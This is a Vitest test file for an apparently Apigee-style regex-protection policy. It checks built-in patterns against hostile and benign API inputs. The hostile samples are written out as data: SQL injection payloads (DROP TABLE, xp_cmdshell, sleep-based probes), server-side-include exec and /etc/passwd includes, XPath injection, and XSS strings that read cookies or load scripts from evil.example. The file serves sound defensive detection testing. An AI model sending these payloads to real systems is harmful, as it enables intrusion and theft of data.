import { describe, expect, it } from 'vitest';
import { builtinPattern, PatternSet, patternSyntaxError } from '../../../src/policies/regex-protection/pattern-set.js';
import { BUILTIN_NAMES, BUILTIN_PATTERNS, type BuiltinName } from '../../../src/policies/regex-protection/patterns.js';

/** The one shipped pattern, alone, so a hit cannot come from another category. */
const only = (name: BuiltinName) => new PatternSet([builtinPattern(name)]);
const everyBuiltin = new PatternSet(BUILTIN_NAMES.map(builtinPattern));

const HOSTILE: Record<BuiltinName, readonly string[]> = {
  'sql-injection': [
    "' or 1=1 --",
    "' OR '1'='1",
    '") or ("x"<>"y',
    '1 OR 1=1',
    "admin'--",
    "1')--",
    "admin' --",
    "admin'#",
    "admin' or true--",
    "x' UNION SELECT password FROM users--",
    '1 union/**/all/**/select 1,2',
    "'; DROP TABLE users; --",
    '1; delete from accounts--',
    "1; DELETE FROM accounts WHERE 1=1",
    "x'; insert into users (name) values ('eve')--",
    "'; update users set role='admin'--",
    "'; shutdown with nowait--",
    "1'); truncate table audit",
    "' and (select count(*) from users) > 0 --",
    'or/**/1=1',
    '/*!50000select*/ 1',
    "'; exec xp_cmdshell 'dir'--",
    "exec master..xp_dirtree '\\\\evil\\x'",
    '1 and sleep(5)',
    "1' AND pg_sleep(10)--",
    'benchmark(1000000,md5(1))',
    "'; waitfor delay '0:0:5'--",
    'select table_name from information_schema.tables',
  ],
  'server-side-include': [
    '<!--#include virtual="/etc/passwd" -->',
    '<!--#exec cmd="ls" -->',
    '<!-- #echo var="DATE_LOCAL" -->',
    '<!--#printenv -->',
    '<esi:include src="http://evil.example/"/>',
  ],
  xpath: [
    "' or '1'='1",
    '" or ""="',
    "' or name()='admin",
    'count(/child::node())',
    'string-length(name(/*[1]))',
    '/ancestor::*',
    "x/following-sibling::item",
    "')] | //user/*[contains(*,'",
    "doc('http://evil.example/x')",
  ],
  javascript: [
    '<script>alert(1)</script>',
    '< SCRIPT src=//evil.example>',
    '</script><b>',
    'javascript:alert(document.cookie)',
    'JaVaScRiPt:eval(name)',
    'java\tscript:alert(1)',
    'data:text/html,<b>hi</b>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<body onload = "go()">',
    '<iframe src="//evil.example">',
    '"><img src="x">',
    'document.cookie',
    'x.innerHTML = y',
    "'-alert(1)-'",
    "alert('xss')",
    'alert(document.domain)',
  ],
  'java-exception': [
    'java.lang.NullPointerException',
    'Exception in thread "main" java.lang.IllegalStateException: boom',
    'java.lang.OutOfMemoryError: Java heap space',
    'org.hibernate.exception.SQLGrammarException: could not extract ResultSet',
    'com.fasterxml.jackson.core.JsonParseException: Unexpected character',
    '\tat com.acme.Scores.load(Scores.java:42)',
    '\tat java.base/jdk.internal.reflect.NativeMethodAccessorImpl.invoke0(Native Method)',
  ],
};

/** Real-looking API traffic, including the words and punctuation the Apigee samples refuse. */
const BENIGN = [
  "O'Brien",
  "D'Angelo and O'Neil",
  "Mary-Kate O'Connor-Smith",
  'Rock \'n\' roll',
  "Directors' report & accounts",
  'Select a plan',
  'select',
  'union',
  'update my profile',
  'Drop table reservations for Friday',
  'Drop-in session',
  'order by name',
  'desc',
  '1 or 2 items',
  "either 'a' or 'b'",
  'score >= 700 or score <= 300',
  "He said 'no' -- then left",
  "It's 5 o'clock -- let's go",
  "The '#1' product",
  '25 Main St., Apt #4',
  "We're open 9-5; closed on Sundays",
  'Ref: 12345; Status: OK',
  'x=1;y=2',
  'Sleep (8 hours)',
  'count (of items)',
  'src/*/lib/*/x',
  'john.smith@example.com',
  'Jane.Doe+billing@example.co.uk',
  '2024-05-01T10:00:00Z',
  '2024-05-01',
  'https://example.com/a/b?c=d&e=f',
  'https://*.example.com',
  '/business/score/v2/directors',
  '/business/score/v2/directors/12345/appointments',
  'JavaScript: 5 years',
  'JavaScript: Node (backend)',
  'Java developer',
  'The data: text/plain',
  'I <3 it',
  'a < b and c > d',
  'price < 100 and online = yes',
  '<b>bold</b> text',
  'C++ std::vector',
  'parent::__construct()',
  'Smith & Sons',
  '50% off',
  'Exceptional service',
  'Error: card declined',
  'ValidationError',
  'Caused by bad input',
  'at home (Leeds)',
  'Limited Company (Ltd.)',
  '+44 (0)20 7946 0958',
  'And/Or',
  'A/B test',
  'application/json; charset=utf-8',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'en-GB,en;q=0.9',
  'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln',
  '{"order": "desc", "limit": 20}',
  'run the tool with "--force"',
  "pass '--dry-run' first",
  'Step 1: prepare; execute the plan',
  'Remove the card; insert into reader',
  'Clear the list; delete from favourites',
  'Done; update the set list',
  'Storm warning; shutdown expected tomorrow',
  'Plant status: planned; shutdown',
  'Sends an alert (1 per day)',
  '| [x] | /api |',
];

describe.each(BUILTIN_NAMES)('builtin %s', (name) => {
  it('compiles alone as RE2', () => {
    expect(patternSyntaxError(BUILTIN_PATTERNS[name].source)).toBeUndefined();
  });

  it.each(HOSTILE[name])('catches %j', (sample) => {
    expect(only(name).firstMatch(sample)).toBe(name);
  });
});

describe('builtin patterns and ordinary traffic', () => {
  it.each(BENIGN)('%j passes every shipped pattern', (sample) => {
    expect(everyBuiltin.firstMatch(sample)).toBeUndefined();
  });

  it('ignores letter case except for java-exception, where case is what tells a class from prose', () => {
    expect(only('sql-injection').firstMatch("' UnIoN sElEcT 1")).toBe('sql-injection');
    expect(only('java-exception').firstMatch('JAVA.LANG.NULLPOINTEREXCEPTION')).toBeUndefined();
  });
});
